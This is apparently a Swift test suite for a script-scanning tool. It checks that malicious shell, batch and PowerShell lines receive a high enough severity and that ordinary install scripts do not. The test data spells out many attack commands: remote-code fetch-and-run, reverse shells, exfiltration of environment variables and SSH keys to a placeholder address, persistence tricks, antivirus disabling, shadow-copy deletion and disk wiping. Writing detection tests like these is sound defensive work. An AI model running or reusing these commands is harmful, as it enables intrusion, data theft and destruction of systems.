import AssayCore
import ByteParsing
import Testing

@testable import Scanning

@Suite struct ScriptTests {
    private func severity(_ text: String, _ name: String) -> Severity {
        FileScanner(settings: ScanSettings(), analysers: Analysers.text).scan(ByteRegion(Array(text.utf8)), path: name)
            .severity
    }

    @Test(arguments: [
        ("curl -s http://203.0.113.7/x | bash", Severity.medium),
        ("eval \"$(curl -fsSL http://203.0.113.7/x)\"", .medium),
        ("source <(curl -s http://203.0.113.7/x)", .medium), ("bash -c \"$(wget -qO- http://203.0.113.7/x)\"", .medium),
        ("curl -s http://evil.example.net/x | sudo bash -s -- -y", .medium),
        ("curl -s http://203.0.113.7/x | tee log | sh", .medium),
        ("X=1 curl -s http://203.0.113.7/x \\\n  | \\\n sh", .medium),
        ("echo ZWNobyBoaQ== | base64 -d | sh", .high), ("eval $(printf '\\x65\\x63')", .high),
        ("python3 -c \"import base64;exec(base64.b64decode('cHJpbnQoMSk='))\"", .critical),
        ("bash -i >& /dev/tcp/203.0.113.7/4444 0>&1", .high), ("nc -e /bin/sh 203.0.113.7 4444", .high),
        ("mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.7 4444 >/tmp/f", .high),
        ("socat TCP:203.0.113.7:4444 EXEC:/bin/sh", .high), ("sh -c 'nc -e /bin/sh 203.0.113.7 1'", .high),
        ("env | curl -d @- http://203.0.113.7/e", .high), ("curl -F k=@$HOME/.ssh/id_rsa http://203.0.113.7/k", .high),
        ("echo ssh-rsa AAAA >> ~/.ssh/authorized_keys", .high), ("echo /tmp/e.so > /etc/ld.so.preload", .high),
        ("(crontab -l; echo '* * * * * x') | crontab -", .high), ("echo 'curl http://a/x|sh' >> ~/.bashrc", .high),
        ("wget -q http://203.0.113.7/m -O /tmp/m && chmod +x /tmp/m && /tmp/m", .medium),
        ("curl -O http://203.0.113.7/a.sh; sh a.sh", .medium), ("curl http://203.0.113.7/a > b; sh ./b", .medium),
        ("perl -e 'use Socket;connect(S,1);exec(\"/bin/sh -i\");'", .high),
        ("rm -rf --no-preserve-root /", .high), ("./m -o stratum+tcp://203.0.113.7:3333", .high),
    ])
    func attacksInShellScriptsAreFound(_ text: String, _ expected: Severity) {
        #expect(severity("#!/bin/sh\n" + text + "\n", "setup.sh") >= expected, "\(text)")
    }

    @Test(arguments: [
        ("certutil -urlcache -split -f http://203.0.113.7/x.exe x.exe", Severity.medium),
        ("bitsadmin /transfer j http://203.0.113.7/x.exe x.exe", .medium), ("mshta http://203.0.113.7/x.hta", .medium),
        ("curl -o x.exe http://203.0.113.7/x.exe && x.exe", .medium),
        ("c^ert^util -url^cache -f http://203.0.113.7/x.exe", .medium),
        ("powershell -c \"IEX(New-Object Net.WebClient).DownloadString('http://203.0.113.7/a')\"", .medium),
        ("powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0A", .high),
        ("reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v x /d x.exe", .high),
        ("schtasks /create /tn x /tr x.exe /sc onlogon", .high), ("vssadmin delete shadows /all", .high),
        ("del /f /s /q C:\\*.*", .high),
    ])
    func attacksInBatchFilesAreFound(_ text: String, _ expected: Severity) {
        #expect(severity("@echo off\r\n" + text + "\r\n", "run.bat") >= expected, "\(text)")
    }

    @Test(arguments: [
        ("IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.7/x.ps1')", Severity.medium),
        ("iwr -useb http://203.0.113.7/x.ps1 | i`ex", .medium),
        ("iwr http://203.0.113.7/x.exe -OutFile x.exe\nStart-Process x.exe", .medium),
        ("$c = New-Object System.Net.Sockets.TCPClient('203.0.113.7',4444)", .high),
        ("Set-MpPreference -DisableRealtimeMonitoring $true", .high),
        ("[System.Reflection.Assembly]::Load([Convert]::FromBase64String('TVqQ'))", .high),
    ])
    func attacksInPowerShellAreFound(_ text: String, _ expected: Severity) {
        #expect(severity(text + "\n", "setup.ps1") >= expected, "\(text)")
    }

    @Test(arguments: [
        (
            "install.sh",
            "curl -LsSf https://astral.sh/uv/install.sh | sh\necho 'export PATH=$HOME/bin:$PATH' >> ~/.bashrc"
        ),
        (
            "train.sh",
            "export PORT=$(shuf -i 1-9 -n 1)\ntorchrun --nproc_per_node=8 \\\n train.py | tee log.txt\nrm -rf ./cache/*"
        ),
        (
            "get.sh",
            "wget http://images.cocodataset.org/train.zip && unzip train.zip\ncurl -s -H \"Authorization: Bearer $T\" https://a.example/api"
        ),
        ("serve.sh", "curl http://localhost:8000/v1 -d '{\"model\": \"m\"}'\nenv | grep CUDA\nexec \"$@\""),
        (
            "conda.sh",
            "eval \"$(conda shell.bash hook)\"\nsource ~/.bashrc\npython -c \"import torch; print(torch.__version__)\""
        ),
        (
            "run.bat",
            "@echo off\r\ncall venv\\Scripts\\activate.bat\r\npip install -r requirements.txt\r\npython launch.py %*\r\n"
        ),
        (
            "tool.ps1",
            "Invoke-WebRequest -Uri https://www.python.org/python.exe -OutFile python.exe\nStart-Process .\\python.exe"
        ),
        (
            "get.ps1",
            "Invoke-WebRequest -Uri https://huggingface.co/o/m/resolve/main/m.gguf -OutFile m.gguf\nStart-Process http://localhost:7860"
        ),
        ("Makefile", "test:\n\tpython -m pytest tests -q\nclean:\n\trm -rf build dist\n"),
        ("x.lua", "os.execute('mkdir -p out')"),
        ("Dockerfile", "FROM python\nRUN curl -fsSL https://deb.nodesource.com/setup_20.x | bash -\n"),
    ])
    func ordinaryScriptsPass(_ name: String, _ text: String) {
        #expect(severity(text + "\n", name) < .medium, "\(name)")
    }

    /// Open quotes, brackets and operators at the end.
    @Test(arguments: ["'", "\"", "$(", "`", "<(", "a |", "a &", "\\", "$(((", "\"$(", "\"`", "a >", "^", "#"])
    func brokenScriptsEnd(_ text: String) {
        for name in ["a.sh", "a.bat", "a.ps1", "a.lua"] { #expect(severity(text, name) <= .low) }
    }
}
